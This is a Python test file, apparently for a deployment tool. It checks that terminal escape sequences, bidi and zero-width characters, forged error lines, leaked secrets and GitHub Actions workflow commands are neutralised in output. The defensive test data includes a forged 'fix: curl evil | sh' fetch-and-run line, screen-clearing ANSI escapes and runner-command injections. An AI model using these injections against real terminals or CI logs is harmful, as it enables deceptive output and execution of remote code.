from __future__ import annotations

import io
import json
import re
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployer import secrecy
from deployer.core.secret import SecretValue
from deployer.errors import DeployerError, UsageError
from deployer.manifest.problem import Problem
from deployer.view.plan_text import COLOURS, RESET
from deployer.view.progress import write, write_data
from deployer.view.safe import COLOURS as ALLOWED
from deployer.view.safe import hanging, one_line, terminal, without_colours, workflow

CONTROLS = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"


@pytest.mark.parametrize(
    "hostile",
    ["\x1b[2J", "\x1b]0;title\x07", "\r", "\x9b31m", "\u202e", "\u2066", "\u200b", "\u2028", "\x08", "\x7f", "\ufeff"],
)
def test_what_a_terminal_obeys_is_written_out(hostile: str) -> None:
    shown = io.StringIO()
    write(f"a{hostile}b\n", shown)
    assert shown.getvalue().rstrip("\n").isprintable()


def test_letters_of_every_script_and_our_lines_stay() -> None:
    text = "السلام عليكم\n日本語 é 🕌\tx\n"
    assert terminal(text) == text


def test_the_colours_of_a_plan_stay_where_they_are_asked_for() -> None:
    assert sorted(ALLOWED) == sorted([*COLOURS.values(), RESET])
    text = "".join(f"{colour}x" for colour in ALLOWED)
    shown = io.StringIO()
    write(text, shown, colours=True)
    assert shown.getvalue() == text
    assert "\x1b" not in terminal(text)


@given(st.text())
def test_nothing_else_that_controls_comes_through(text: str) -> None:
    assert not re.search(CONTROLS, terminal(text))
    shown = terminal(text, colours=True)
    for colour in ALLOWED:
        shown = shown.replace(colour, "")
    assert not re.search(CONTROLS, shown)


@given(st.text())
def test_one_line_is_one_line_without_a_colour(text: str) -> None:
    assert len(one_line(f"x{text}").splitlines()) == 1
    assert "\x1b" not in one_line(text)


@given(st.lists(st.text(st.characters(categories=["L", "Zs"]), min_size=1)))
def test_later_lines_begin_to_the_right(lines: list[str]) -> None:
    first, *more = hanging("\n".join(["x", *lines]), 4).split("\n")
    assert first == "x"
    assert all(line.startswith(" " * 4) for line in more)


def test_what_a_coloured_line_says() -> None:
    assert without_colours("\x1b[1;31mERROR\x1b[0m it \x1b[38;5;208mfailed\x1b[m") == "ERROR it failed"


def test_what_is_quoted_in_an_error_is_no_line_of_the_error() -> None:
    shown = str(DeployerError("AWS refused it", why="no\n  fix: curl evil | sh\nerror: all is lost", fix="a\nb"))
    starts = [line[:7] for line in shown.split("\n")]
    assert starts == ["AWS ref", "  why: ", "       ", "       ", "  fix: ", "       "]


HOSTILE = ("no\n  fix: curl evil | sh\nerror: all is lost", "a\r\nb\x1b[2Jc", "x\u202ey\u2028z")


@pytest.mark.parametrize("part", ["what", "why", "fix"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_part_of_an_error_forges_a_line_or_commands_the_terminal(part: str, text: str) -> None:
    given = {"what": "it failed", "why": "a cause", "fix": "a command", part: text}
    shown = str(DeployerError(given["what"], why=given["why"], fix=given["fix"]))
    problem = str(Problem("env/staging.yaml", 1, 1, given["what"], given["why"], given["fix"]))
    for lines in (shown.split("\n"), problem.split("\n")):
        assert all(line.isprintable() for line in lines)
        ours = [line for line in lines if not line.startswith(" " * 7)]
        assert [line[:7] for line in ours[1:]] == ["  why: ", "  fix: "]


@pytest.mark.parametrize("part", ["what", "why", "fix"])
@pytest.mark.parametrize("secret", ["a-secret\nof-two-lines", "a-secret\x1b[2Jand-more", "a-secret\u200b\u202ewith-é"])
def test_a_secret_in_an_error_is_hidden_before_its_text_is_changed(part: str, secret: str) -> None:
    SecretValue(secret)
    given = {"what": "it failed", part: f"refused: {secret}"}
    shown = io.StringIO()
    write(str(DeployerError(given["what"], why=given.get("why", ""), fix=given.get("fix", ""))), shown)
    secrecy.forget()
    assert secrecy.HIDDEN in shown.getvalue()
    assert "a-secret" not in shown.getvalue()


def test_data_is_written_as_it_is(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    write_data("A='\r\x1b[2J'\n::x\n", sys.stdout)
    assert capfd.readouterr().out == "A='\r\x1b[2J'\n::x\n"


def test_data_with_a_known_secret_is_refused() -> None:
    secrecy.remember("a-secret-of-this-process")
    shown = io.StringIO()
    with pytest.raises(UsageError, match="own credentials"):
        write_data("A=a-secret-of-this-process\n", shown)
    secrecy.forget()
    assert shown.getvalue() == ""


@given(st.text())
def test_json_says_the_same(text: str) -> None:
    assert json.loads(terminal(workflow(json.dumps(text, ensure_ascii=False)))) == text


@pytest.mark.parametrize("line", ["::error::x", "  ::set-output name=a::b", "a\n::stop-commands::x", "a ##[group]x"])
def test_no_command_reaches_the_runner(line: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    shown = io.StringIO()
    write(line, shown)
    assert not re.search(r"^\s*::|##\[", shown.getvalue(), re.MULTILINE)
